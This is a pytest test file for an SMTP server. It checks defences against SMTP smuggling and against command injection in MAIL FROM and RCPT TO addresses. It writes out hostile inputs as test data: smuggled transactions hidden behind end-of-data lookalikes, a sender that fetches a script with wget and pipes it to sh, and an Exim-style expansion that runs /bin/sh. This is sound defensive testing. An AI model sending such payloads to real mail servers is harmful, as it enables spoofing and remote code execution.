"""SMTP smuggling (CVE-2023-51764/51765/51766, CVE-2024-27305): only <CRLF>.<CRLF> ends DATA.

For every end-of-data lookalike, the client sends a body containing it,
followed by a complete smuggled transaction, all in one write.  At most one
message may be stored, never one for the smuggled recipient, and no reply
may answer a smuggled command.  Run in both bare-LF modes and through BDAT.
One server per mode serves every case, but each case has its own two
mailboxes (created while the server runs), so a leak fails only the case
that caused it.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass
from pathlib import Path
from typing import Iterator

import pytest

from fastsmtp.policy import add_mailbox
from helpers import Client, RunningServer, body_of, greeted, start_server

LOOKALIKES = [
    b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\n", b"\n.\r", b"\r.\r\n", b"\r\n.\r",
    b"\r\n.\r\r\n", b"\r\r\n.\r\r\n", b"\r\n\x00.\r\n", b"\r\n.\x00\r\n",
]
_CASES = itertools.count()


def smuggled(victim: str) -> bytes:
    """A complete second transaction, for ``victim``, hidden in the body."""
    return (
        b"MAIL FROM:<evil@example.net>\r\nRCPT TO:<" + victim.encode() + b">\r\nDATA\r\n"
        b"Subject: smuggled\r\n\r\nevil\r\n"
    )


@dataclass
class Case:
    """One case's own mailboxes on the shared server, so that a leak fails that case only."""

    srv: RunningServer
    good: str  # the recipient of the real message
    victim: str  # the recipient of the smuggled one


@pytest.fixture(scope="module", params=["reject", "normalize"])
def mode_server(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, RunningServer]]:
    srv = start_server(tmp_path_factory.mktemp("smuggle") / "mail", "--bare-lf", request.param)
    try:
        yield request.param, srv
    finally:
        srv.stop()


@pytest.fixture
def case(mode_server: tuple[str, RunningServer]) -> Case:
    """Two fresh mailboxes, created while the server runs (it knows them at once)."""
    _, srv = mode_server
    n = next(_CASES)
    good, victim = f"good{n}@example.com", f"victim{n}@example.com"
    for address in (good, victim):
        add_mailbox(str(srv.mail_root), address)
    return Case(srv, good, victim)


def _transaction_start(c: Client, rcpt: str) -> None:
    c.send(b"EHLO c.example\r\nMAIL FROM:<good@example.net>\r\nRCPT TO:<" + rcpt.encode() + b">\r\n")
    assert [r[:3] for r in c.replies(3)] == [b"250", b"250", b"250"]


def _no_more_replies(c: Client) -> None:
    c.send(b"QUIT\r\n")
    assert c.reply().startswith(b"221 ")  # the very next reply answers our QUIT
    assert c.closed()


@pytest.mark.parametrize("lookalike", LOOKALIKES, ids=repr)
def test_data_lookalike_does_not_end_the_message(
    mode_server: tuple[str, RunningServer], case: Case, lookalike: bytes
) -> None:
    mode, srv = mode_server
    c = greeted(srv)
    _transaction_start(c, case.good)
    c.send(b"DATA\r\n")
    assert c.reply().startswith(b"354")
    c.send(b"Subject: good\r\n\r\nhello" + lookalike + smuggled(case.victim) + b".\r\n")
    reply = c.reply()
    bare = b"\n" in lookalike.replace(b"\r\n", b"") or b"\r" in lookalike.replace(b"\r\n", b"")
    if bare and mode == "reject":
        assert reply.startswith(b"550 5.5.2"), reply
    else:
        assert reply.startswith(b"250 2.0.0"), reply
    _no_more_replies(c)
    new = srv.messages(case.good)
    assert len(new) == (0 if bare and mode == "reject" else 1)
    assert srv.messages(case.victim, count=0) == []
    for path in new:
        stored = body_of(path)
        assert stored.startswith(b"Subject: good\r\n\r\nhello")
        assert b"MAIL FROM:<evil@example.net>" in stored  # the smuggled text is content


@pytest.mark.parametrize("lookalike", LOOKALIKES, ids=repr)
def test_bdat_carries_lookalikes_as_content(case: Case, lookalike: bytes) -> None:
    c = greeted(case.srv)
    _transaction_start(c, case.good)
    content = b"Subject: good\r\n\r\nhello" + lookalike + smuggled(case.victim) + b".\r\n"
    c.send(b"BDAT %d LAST\r\n" % len(content) + content)
    assert c.reply().startswith(b"250 2.0.0 Ok: queued")
    _no_more_replies(c)
    (new,) = case.srv.messages(case.good)
    assert body_of(new) == content
    assert case.srv.messages(case.victim, count=0) == []


@pytest.mark.parametrize(
    "command,code",
    [
        # OpenSMTPD CVE-2020-7247: a shell command in the sender.
        (b"MAIL FROM:<;sleep 66;>", b"553 5.1.7"),
        (b"MAIL FROM:<;wget${IFS}x.example/a${IFS}-O-|sh;@example.net>", b"553 5.1.7"),
        # Exim CVE-2019-10149: expansion in the recipient (a tab inside).
        (b"RCPT TO:<${run{\\x2fbin\\x2fsh\t-c\t\\x22id\\x22}}@example.com>", b"553 5.1.3"),
        # Legal RFC 5321 characters that are dangerous elsewhere: plain data,
        # refused only because no such mailbox folder exists.
        (b"RCPT TO:<${run{x}}@example.com>", b"550 5.1.1"),
        (b"RCPT TO:<a|b`c'd%e@example.com>", b"550 5.1.1"),
        (b"RCPT TO:<a\x00b@example.com>", b"553 5.1.3"),
        (b"RCPT TO:<" + b"a" * 65 + b"@example.com>", b"553 5.1.3"),
        (b"RCPT TO:<a@" + b"b" * 250 + b".example>", b"553 5.1.3"),
    ],
)
def test_addresses_are_data(client: Client, command: bytes, code: bytes) -> None:
    client.send(b"EHLO c.example\r\n")
    client.reply()
    if command.startswith(b"RCPT"):
        client.send(b"MAIL FROM:<s@example.net>\r\n")
        client.reply()
    client.send(command + b"\r\n")
    assert client.reply().startswith(code)


def test_dangerous_but_legal_local_part_delivers_only_to_its_exact_folder(server: RunningServer) -> None:
    add_mailbox(str(server.mail_root), "a|b$c@example.com")
    c = greeted(server)
    c.send(b"EHLO c.example\r\nMAIL FROM:<s@example.net>\r\nRCPT TO:<a|b$c@example.com>\r\nDATA\r\n")
    assert [r[:3] for r in c.replies(4)] == [b"250", b"250", b"250", b"354"]
    c.send(b"Subject: x\r\n\r\nok\r\n.\r\n")
    assert c.reply().startswith(b"250")
    assert len(server.messages("a|b$c@example.com")) == 1
